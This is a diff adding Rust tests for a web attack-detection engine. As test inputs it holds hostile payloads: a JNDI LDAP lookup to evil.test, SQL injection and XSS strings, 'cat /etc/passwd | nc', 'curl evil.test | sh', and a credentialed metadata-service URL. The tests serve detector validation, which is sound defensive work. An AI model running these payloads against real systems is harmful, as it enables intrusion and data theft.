@@ -1,0 +1,112 @@
+//! What profiles make of evidence: nothing hides anything, and nothing that is off or elsewhere counts.
+
+use std::sync::Arc;
+
+use http::{HeaderMap, Method};
+
+use super::{Engine, FieldKind, FieldRule, Head, Part, Profile, Report, Rule, RuleFile, Settings, Tuning};
+
+const JNDI: &str = "${jndi:ldap://evil.test/a}";
+const NOISE: &str = "' or 1=1 union select sleep(9)-- <script>alert(1)</script><svg onload=alert(1)> ; cat /etc/passwd | nc a.b 1 `id` $(id) \
+    <img src=x onerror=alert(1)> javascript:alert(1) && curl evil.test | sh ' having 1=1 ; drop table a; exec xp_cmdshell 'a' waitfor delay '0:0:9' ";
+
+fn rules(more: &str) -> Vec<Rule> {
+    let mut rules = RuleFile::ready_made().expect("ready-made rules");
+    rules.append(&mut RuleFile::parse(more).expect("rules").rule);
+    rules
+}
+
+fn profile(more: &str, settings: Settings) -> Profile {
+    Profile::new(Arc::new(Engine::new(rules(more)).expect("compiled")), settings).expect("a profile")
+}
+
+fn ask(profile: &Profile, query: &[(&str, &str)]) -> Report {
+    let query: String = form_urlencoded::Serializer::new(String::new()).extend_pairs(query).finish();
+    let head = Head { method: &Method::GET, path: "/x", query: Some(&query), headers: &HeaderMap::new() };
+    profile.judge(&head, None)
+}
+
+fn field(trail: &str, kind: FieldKind) -> FieldRule {
+    FieldRule { part: Part::Query, trail: trail.to_owned(), kind }
+}
+
+#[test]
+fn what_does_not_count_silences_nothing_that_does() {
+    let fields = vec![field("q", FieldKind::Code)];
+    let code = profile("", Settings { fields, ..Settings::default() });
+    assert!(!ask(&code, &[("q", NOISE)]).is_attack, "code in a field of code");
+    assert!(ask(&code, &[("q", &format!("{NOISE}{JNDI}"))]).is_attack);
+    let tuning = ["sqli", "xss", "rce", "lfi"].map(|class| (class.to_owned(), Tuning::Shadow)).to_vec();
+    let shadow = profile("", Settings { tuning, ..Settings::default() });
+    let many: Vec<_> = (0..40).map(|_| ("a", NOISE)).chain([("q", JNDI)]).collect();
+    let report = ask(&shadow, &many);
+    assert!(report.is_attack && report.findings.iter().any(|finding| finding.score > 0), "{report:?}");
+}
+
+#[test]
+fn no_number_of_texts_hides_a_rule() {
+    let own: String = (0..200)
+        .map(|n| {
+            format!("[[rule]]\nid = \"own.{n}\"\nclass = \"custom\"\nscore = 0\nabout = \"a\"\nany = [\"text-{n}-\"]\n")
+        })
+        .collect();
+    let last = "[[rule]]\nid = \"own.last\"\nclass = \"custom\"\nscore = 5\nabout = \"a\"\nany = [\"the last\"]\n";
+    let profile = profile(&format!("{own}{last}"), Settings::default());
+    let texts: String = (0..200).map(|n| format!("text-{n}- ")).collect();
+    assert!(!ask(&profile, &[("q", &texts)]).is_attack);
+    assert!(ask(&profile, &[("q", &format!("{texts}the last"))]).is_attack);
+}
+
+#[test]
+fn one_weak_sign_in_many_values_stays_weak() {
+    let own = "[[rule]]\nid = \"own.weak\"\nclass = \"custom\"\nscore = 3\nabout = \"a\"\nany = [\"weak sign\"]\n";
+    let profile = profile(own, Settings::default());
+    for count in [1, 31, 33, 100] {
+        let many: Vec<_> = (0..count).map(|_| ("a", "%41 weak sign")).collect();
+        assert_eq!(ask(&profile, &many).score, 3, "{count}");
+    }
+}
+
+#[test]
+fn the_way_that_says_most_of_a_field_counts() {
+    let fields = vec![field("**", FieldKind::Opaque), field("name", FieldKind::Text)];
+    let profile = profile("", Settings { fields, ..Settings::default() });
+    assert!(ask(&profile, &[("name", "1' or '1'='1")]).is_attack);
+    assert!(!ask(&profile, &[("other", "1' or '1'='1")]).is_attack);
+}
+
+#[test]
+fn classes_and_rules_are_tuned_as_they_say() {
+    let with = |tuning: &[(&str, Tuning)]| {
+        let tuning = tuning.iter().map(|(name, tuning)| ((*name).to_owned(), *tuning)).collect();
+        profile("", Settings { tuning, ..Settings::default() })
+    };
+    let query = [("q", "1' union select a from b-- ")];
+    let found: Vec<_> = ask(&with(&[]), &query).findings.into_iter().map(|finding| finding.rule).collect();
+    assert!(!ask(&with(&[("sqli", Tuning::Off)]), &query).is_attack);
+    let all: Vec<_> = found.iter().map(|rule| (&**rule, Tuning::On)).chain([("sqli", Tuning::Off)]).collect();
+    assert!(ask(&with(&all), &query).is_attack, "a rule is on though its class is off: {found:?}");
+    let headers =
+        HeaderMap::from_iter([(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"))]);
+    let head = Head { method: &Method::POST, path: "/x", query: None, headers: &headers };
+    for (tuning, want) in
+        [(&[][..], true), (&[("structure", Tuning::Shadow)], false), (&[("structure.malformed", Tuning::Off)], false)]
+    {
+        let report = with(tuning).judge(&head, Some(b"{\"a\":1} x"));
+        assert_eq!((report.is_attack, report.fault.is_some()), (want, true), "{tuning:?}");
+    }
+}
+
+#[test]
+fn secrets_are_not_shown() {
+    let profile = profile("", Settings::default());
+    for (name, value) in [
+        ("password", "hunter2' or 1=1 -- x"),
+        ("access_token", "hunter2' or 1=1 -- x"),
+        ("url", "http://admin:hunter2@169.254.169.254/"),
+    ] {
+        let report = ask(&profile, &[(name, value)]);
+        assert!(report.is_attack, "{name}");
+        assert!(!format!("{report:?}").contains("hunter2"), "{report:?}");
+    }
+}
